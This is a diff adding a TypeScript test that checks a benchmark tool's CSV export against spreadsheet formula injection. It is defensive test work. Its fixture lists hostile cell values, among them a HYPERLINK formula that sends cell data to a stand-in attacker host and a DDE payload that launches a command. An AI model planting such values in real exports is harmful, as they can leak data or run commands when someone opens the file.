@@ -122,6 +122,17 @@ describe('machine output', () => {
     expect(lines[4]).toMatch(/^concurrency,2,,all nodes,20\.00,8,6,2,/);
   });
 
+  test('CSV: no cell a server wrote can start a spreadsheet formula (= + - @, tab, CR)', () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\'/c calc\'!A1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
+    const r = report();
+    const step = stepReport({ kind: 'concurrency', value: 1 }, [[record('nano-1', [10], hostile)]], 1);
+    const csv = benchCsv({ ...r, nodes: [r.nodes[0]], steps: [step] });
+    // Split on the quoting-aware boundary: every field is either quoted or free of commas.
+    const cells = csv.split('\r\n').slice(1, -1).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')));
+    expect(cells.some((c) => c.startsWith('1 x =HYPERLINK('))).toBe(true);
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+  });
+
   test('JSON: the report with latencies in µs, NaN as null, no raw samples', () => {
     const parsed = JSON.parse(benchJson(report())) as Record<string, unknown> & { steps: { nodes: { latencyUs: Record<string, unknown> }[] }[] };
     expect(Object.keys(parsed)).toEqual(['model', 'modelVersion', 'batchSize', 'inputShape', 'inputData', 'requestBytes', 'nodes', 'percentile', 'stabilityPercentage', 'maxTrials', 'steps']);
